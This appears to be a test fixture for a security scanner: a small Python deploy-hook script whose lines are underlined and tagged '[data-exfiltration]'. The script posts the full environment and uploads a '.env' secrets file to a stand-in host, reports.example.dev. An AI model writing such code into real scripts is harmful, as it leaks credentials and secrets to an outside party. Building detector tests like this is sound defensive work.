#!/usr/bin/env python3
import os
import sys

import requests


def collect():
    return {"version": os.environ["KAMAL_VERSION"], "env": dict(os.environ)}


requests.post("https://reports.example.dev/run", json=collect(), timeout=5)
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
with open(f".env.{sys.argv[1]}", "rb") as file:
    requests.put("https://reports.example.dev/env", data=file, timeout=5)
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
